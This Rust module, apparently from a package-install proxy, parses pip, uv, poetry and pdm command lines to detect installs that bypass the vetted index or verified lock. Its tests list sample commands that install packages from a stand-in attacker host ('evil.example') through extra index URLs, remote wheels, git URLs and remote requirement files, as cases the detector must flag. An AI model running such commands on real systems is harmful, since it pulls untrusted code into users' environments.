//! What a command line would do, by its words: which installer it is, whether it takes its files from an index or from a lock,
//! and whether it names a source of its own.

use std::{ffi::OsStr, path::Path};

use self::options::Word;

mod options;

/// What a command does, as far as the proxy has to know.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    /// Asks an index what to install, and gets the files from it.
    Index,
    /// Installs what a lock says, from where the lock says: the lock is verified before.
    Lock(LockFile),
    /// Writes the address of the index into a lock.
    WritesLock(&'static str),
    /// Something else, which may start an installer.
    Unknown,
}

/// A lock beside the project.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum LockFile {
    Uv,
    Poetry,
    Pdm,
}

impl LockFile {
    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::Uv => "uv.lock",
            Self::Poetry => "poetry.lock",
            Self::Pdm => "pdm.lock",
        }
    }
}

/// Options of pip and uv that name a source, or a file that may name one.
const SOURCES: [&str; 11] = [
    "--index-url",
    "--pypi-url",
    "--extra-index-url",
    "--find-links",
    "--index",
    "--default-index",
    "--proxy",
    "--no-index",
    "--config-file",
    "--torch-backend",
    // pip then forgets its variables, and the proxy with them.
    "--isolated",
];
/// Options whose value is a file of requirements or constraints.
const FILES: [&str; 8] = [
    "--requirement",
    "--requirements",
    "--constraint",
    "--constraints",
    "--build-constraint",
    "--build-constraints",
    "--override",
    "--overrides",
];
/// Options with which an installer takes another lock, or other files of the lock, than those that were verified.
const ELSEWHERE: [&str; 5] = ["--directory", "--project", "--python", "--script", "--lockfile"];
const ARCHIVES: [&str; 9] = [".whl", ".tar.gz", ".zip", ".tar.bz2", ".tar.xz", ".tgz", ".tbz", ".tar", ".egg"];

/// The words of a command.
pub(super) struct Words<'a>(Vec<&'a str>);

impl<'a> Words<'a> {
    /// Words that are not UTF-8 are no option of any installer.
    pub(super) fn new(command: &'a [std::ffi::OsString]) -> Self {
        Self(command.iter().map(|word| word.to_str().unwrap_or("\u{fffd}")).collect())
    }

    /// `pip`, of `/usr/bin/pip3.11`, `python -m pip`, `uv`, ...; and the words after it.
    fn program(&self) -> Option<(&str, &[&'a str])> {
        let (first, rest) = self.0.split_first()?;
        let name = Path::new(first).file_name().and_then(OsStr::to_str)?;
        if name.starts_with("python") || name.starts_with("pypy") {
            return options::module(rest);
        }
        let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        Some((if bare.is_empty() { name } else { bare }, rest))
    }

    pub(super) fn kind(&self) -> Kind {
        let Some((program, rest)) = self.program() else {
            return Kind::Unknown;
        };
        let words: Vec<&str> = options::bare(rest).into_iter().map(|at| rest[at]).collect();
        let word = |at: usize| words.get(at).copied().unwrap_or_default();
        match (program, word(0), word(1)) {
            ("pip", "install" | "download" | "wheel" | "sync", _)
            | ("uv", "pip", "install" | "sync" | "compile")
            | ("uv", "tool", "install" | "run" | "upgrade")
            | ("pipx", "install" | "run" | "upgrade", _)
            | ("uvx" | "pip-sync" | "pip-compile", ..) => Kind::Index,
            ("uv", "sync" | "run", _) => Kind::Lock(LockFile::Uv),
            ("poetry", "install" | "sync", _) => Kind::Lock(LockFile::Poetry),
            ("pdm", "install" | "sync", _) => Kind::Lock(LockFile::Pdm),
            ("uv", "lock" | "add" | "remove", _) => Kind::WritesLock("uv.lock"),
            ("poetry", "lock" | "add" | "update", _) => Kind::WritesLock("poetry.lock"),
            ("pdm", "lock" | "add" | "update", _) => Kind::WritesLock("pdm.lock"),
            _ => Kind::Unknown,
        }
    }

    /// The words that are the installer's own, and not of what `uv run` runs.
    fn own(&self) -> &[&'a str] {
        let Some((program, rest)) = self.program() else { return &[] };
        let end = rest.iter().position(|word| *word == "--").unwrap_or(rest.len());
        let bare = options::bare(rest);
        let runs = program == "uv" && bare.first().is_some_and(|at| rest[*at] == "run");
        let command = bare.get(1).filter(|_| runs).copied().unwrap_or(end);
        &rest[..end.min(command)]
    }

    /// The option or argument by which files would come from elsewhere than the proxy.
    pub(super) fn second_source(&self) -> Option<&str> {
        let kind = self.kind();
        let words = self.own();
        // `uv run --isolated` means another thing.
        let sources =
            if matches!(self.program(), Some(("pip", _))) { &SOURCES[..] } else { &SOURCES[..SOURCES.len() - 1] };
        let named = |word: &&&str| Word::new(word).is_long(sources) || Word::new(word).is_short("if");
        match kind {
            // Of a lock, what `uv run` adds to it, into an environment that nobody looks into afterwards.
            Kind::Index | Kind::Lock(LockFile::Uv) => words.iter().find(|word| named(word) || is_place(word)).copied(),
            _ => None,
        }
    }

    /// The option by which a command would not install what the lock here says for the Python here.
    pub(super) fn elsewhere(&self) -> Option<&str> {
        let Kind::Lock(lock) = self.kind() else { return None };
        let letters = match lock {
            LockFile::Uv => "ps",
            LockFile::Poetry => "CP",
            LockFile::Pdm => "pL",
        };
        let is_elsewhere = |word: &&&str| Word::new(word).is_long(&ELSEWHERE) || Word::new(word).is_short(letters);
        // With --locked uv asks no proxy, so what is added to the lock would come unasked.
        let with = ["--with", "--with-requirements", "--with-editable"];
        let is_added =
            |word: &&&str| self.keeps_lock() && (Word::new(word).is_long(&with) || Word::new(word).is_short("w"));
        self.own().iter().find(|word| is_elsewhere(word) || is_added(word)).copied()
    }

    /// Files of requirements, which may name sources themselves.
    pub(super) fn requirement_files(&self) -> Vec<&str> {
        let words = self.own();
        let mut files = options::values(words, "rcb", &FILES);
        let bare: Vec<&str> = options::bare(words).into_iter().map(|at| words[at]).collect();
        match (self.program().map(|(program, _)| program), bare.as_slice()) {
            (Some("uv"), ["pip", "sync" | "compile", rest @ ..]) | (Some("pip-sync" | "pip-compile"), rest) => {
                files.extend(rest);
            }
            _ => {}
        }
        files
    }

    /// Files of what `uv run` adds to a lock. uv takes no option that is cut short.
    pub(super) fn added_files(&self) -> Vec<&str> {
        let words = self.own();
        let named = words.iter().enumerate();
        let added = named.filter(|(_, word)| matches!(Word::new(word), Word::Long { name: "--with-requirements", .. }));
        let values = added.filter_map(|(at, word)| Word::new(word).value().or_else(|| words.get(at + 1).copied()));
        values.flat_map(|files| files.split(',')).collect()
    }

    /// What an index is asked for by name, in words and in files: requirements, as written.
    pub(super) fn requirements(&self) -> (Vec<&str>, Vec<&str>) {
        let words = self.own();
        let bare: Vec<&str> = options::bare(words).into_iter().map(|at| words[at]).collect();
        let files = options::values(words, "r", &["--requirement", "--requirements"]);
        match (self.program().map(|(program, _)| program), bare.as_slice()) {
            (Some("pip"), ["install", rest @ ..]) | (Some("uv"), ["pip", "install", rest @ ..]) => {
                (rest.iter().copied().filter(|word| !files.contains(word)).collect(), files)
            }
            (Some("uv"), ["pip", "sync", rest @ ..])
            | (Some("pip"), ["sync", rest @ ..])
            | (Some("pip-sync"), rest) => (Vec::new(), [rest, &files].concat()),
            // Into environments of their own, or nowhere.
            _ => (Vec::new(), Vec::new()),
        }
    }

    /// What an installer builds and installs of the user's own: words that may be folders, extras and all.
    pub(super) fn own_code(&self) -> Vec<&str> {
        let installs = matches!(self.program().map(|(program, _)| program), Some("pip" | "uv"));
        let named = self.requirements().0;
        let edited = options::values(self.own(), "e", &["--editable"]);
        if installs { named.into_iter().chain(edited).collect() } else { Vec::new() }
    }

    /// What `uv run` runs.
    pub(super) fn script(&self) -> Option<&str> {
        let (program, rest) = self.program()?;
        let bare = options::bare(rest);
        let runs = program == "uv" && bare.first().is_some_and(|at| rest[*at] == "run");
        bare.get(1).filter(|_| runs).map(|at| rest[*at])
    }

    /// Whether it is uv, and takes what projects say about their sources into account.
    pub(super) fn reads_sources(&self) -> bool {
        matches!(self.program(), Some(("uv", _))) && !self.own().contains(&"--no-sources")
    }

    /// Whether the user already said that uv must compare its lock with the index and leave it alone.
    pub(super) fn keeps_lock(&self) -> bool {
        self.own().contains(&"--locked")
    }

    /// Python or environment that the command names.
    pub(super) fn targets(&self) -> Vec<&str> {
        options::values(&self.0, "pt", &["--python", "--target", "--prefix", "--root"])
    }
}

/// Whether what a word says, or the option in it is given, names a place that is no index. uv takes several with commas.
pub(super) fn is_place(word: &str) -> bool {
    let said = Word::new(word).value().unwrap_or(word);
    said.split(',').map(str::trim).any(|one| is_remote(one) || is_archive(one))
}

/// A file or checkout that no index is asked for.
fn is_remote(word: &str) -> bool {
    let place = word.split_once(" @ ").or_else(|| word.split_once('@')).map_or(word, |(_, place)| place).trim();
    let schemes = ["http://", "https://", "git+", "hg+", "svn+", "bzr+", "ftp://", "file:"];
    schemes.iter().any(|scheme| word.starts_with(scheme) || place.starts_with(scheme))
}

/// A file of packages on this machine, which no policy was asked about. A folder is the user's own code.
fn is_archive(word: &str) -> bool {
    let path = word.split_once('[').map_or(word, |(path, _)| path).to_ascii_lowercase();
    matches!(Word::new(word), Word::Bare(_)) && ARCHIVES.iter().any(|end| path.ends_with(end))
}

#[cfg(test)]
mod tests {
    use std::ffi::OsString;

    use super::*;

    fn words(line: &str) -> Vec<OsString> {
        line.split(' ').map(OsString::from).collect()
    }

    #[test]
    fn installers_are_known_by_their_words() {
        for (line, kind) in [
            ("pip install x", Kind::Index),
            ("/venv/bin/pip3.11 -q install x", Kind::Index),
            ("python3 -I -m pip install -r r.txt", Kind::Index),
            ("uv pip install x", Kind::Index),
            ("uvx ruff", Kind::Index),
            ("uv sync --all-extras", Kind::Lock(LockFile::Uv)),
            ("uv --quiet run pytest", Kind::Lock(LockFile::Uv)),
            ("poetry install", Kind::Lock(LockFile::Poetry)),
            ("pdm sync", Kind::Lock(LockFile::Pdm)),
            ("uv add x", Kind::WritesLock("uv.lock")),
            ("uv --directory ../other pip install x", Kind::Index),
            ("uv --color never sync", Kind::Lock(LockFile::Uv)),
            ("pip --log f install x", Kind::Index),
            ("pip --prox http://p install x", Kind::Index),
            ("python3.13t -mpip install x", Kind::Index),
            ("python3 -Im pip install x", Kind::Index),
            ("make test", Kind::Unknown),
            ("python setup.py", Kind::Unknown),
            ("pip --version", Kind::Unknown),
        ] {
            assert_eq!(Words::new(&words(line)).kind(), kind, "{line}");
        }
    }

    #[test]
    fn a_second_source_is_seen_however_it_is_given() {
        for line in [
            "pip install --extra-index-url https://evil.example x",
            "pip install --extra-index-url=https://evil.example x",
            "pip install -ihttps://evil.example x",
            "pip install -f /wheels x",
            "python -m pip install --no-index --find-links=/wheels x",
            "uv pip install --index https://evil.example x",
            "pip install https://evil.example/x-1-py3-none-any.whl",
            "pip install x@https://evil.example/x-1-py3-none-any.whl",
            "pip install git+https://evil.example/x",
            "pip --log f install --extra-index=https://evil.example x",
            "pip install --find-l=/wheels x",
            "pip install -qf /wheels x",
            "python3 -mpip install -Uqi https://evil.example x",
            "pip --isolated install x",
            "pip install ./x-1-py3-none-any.whl",
            "pip install ./x-1-py3-none-any.whl[more]",
            "pip install file:///x-1-py3-none-any.whl",
            "uv --config-file evil.toml pip install x",
            "uv pip install --torch-backend=cpu torch",
            "uv run --default-index https://evil.example --with x pytest",
            "uv run --with https://evil.example/x-1-py3-none-any.whl pytest",
            "uv run --with=six,x@https://evil.example/x-1-py3-none-any.whl pytest",
            "uv run -wgit+https://evil.example/x pytest",
            "uvx --with=https://evil.example/x-1-py3-none-any.whl ruff",
            "uvx --from=git+https://evil.example/ruff ruff",
            "pip install -e=git+https://evil.example/x",
            "pip install --requirement=https://evil.example/r.txt",
            "pip install -rhttps://evil.example/r.txt",
        ] {
            assert!(Words::new(&words(line)).second_source().is_some(), "{line}");
        }
        for line in [
            "pip install x",
            "pip install -U x[http]==1.0 .",
            "pip install -e .",
            "make -f Makefile",
            "uv run make -f x",
            "uv run --isolated x",
            "uv run --with six,idna --with=./folder pytest https://host.example/x.whl",
        ] {
            assert_eq!(Words::new(&words(line)).second_source(), None, "{line}");
        }
    }

    #[test]
    fn requirement_files_and_targets_are_found() {
        let line = words("pip install -r a.txt --requirement=b.txt -cc.txt --target here -p /venv x");
        let words = Words::new(&line);
        assert_eq!(words.requirement_files(), ["a.txt", "b.txt", "c.txt"]);
        assert_eq!(words.targets(), ["here", "/venv"]);
        for line in ["uv pip sync -q a.txt", "pip-sync a.txt", "pip install -qra.txt", "pip install --req a.txt x"] {
            assert_eq!(Words::new(&super::tests::words(line)).requirement_files(), ["a.txt"], "{line}");
        }
    }

    #[test]
    fn files_of_what_is_added_to_a_lock_are_found() {
        let line = words(
            "uv run --with six --with-requirements a.txt,b.txt --with-requirements=c.txt pytest --with-requirements x",
        );
        assert_eq!(Words::new(&line).added_files(), ["a.txt", "b.txt", "c.txt"]);
    }

    #[test]
    fn the_user_s_own_folders_are_among_what_is_installed() {
        for line in ["pip install .[dev]", "uv pip install -e .[dev]", "python -m pip install --editable=.[dev]"] {
            assert_eq!(Words::new(&words(line)).own_code(), [".[dev]"], "{line}");
        }
        assert!(Words::new(&words("make -e .")).own_code().is_empty());
    }

    #[test]
    fn what_is_asked_for_by_name_is_told_from_commands_and_values() {
        for (line, names, files) in [
            ("pip install -q six==1.17.0 idna", &["six==1.17.0", "idna"][..], &[][..]),
            ("python -m pip install -r r.txt -c c.txt six", &["six"], &["r.txt"]),
            ("uv pip install --python /venv/bin/python six", &["six"], &[]),
            ("uv pip sync r.txt", &[], &["r.txt"]),
            ("pip download six", &[], &[]),
            ("uvx six", &[], &[]),
            ("make six", &[], &[]),
        ] {
            let line_words = words(line);
            assert_eq!(Words::new(&line_words).requirements(), (names.to_vec(), files.to_vec()), "{line}");
        }
    }

    #[test]
    fn another_lock_than_the_verified_one_is_seen() {
        for line in [
            "uv sync --project ../other",
            "uv --directory=../other sync",
            "uv run -p 3.9 pytest",
            "uv run --locked --with x pytest",
            "poetry -C ../other install",
            "pdm install -p ../other",
            "pdm sync --lockfile other.lock",
        ] {
            assert!(Words::new(&words(line)).elsewhere().is_some(), "{line}");
        }
        for line in ["uv sync --extra x", "uv run pytest -p no:cacheprovider", "uv run --with x y", "pip install -p x"]
        {
            assert_eq!(Words::new(&words(line)).elsewhere(), None, "{line}");
        }
    }
}
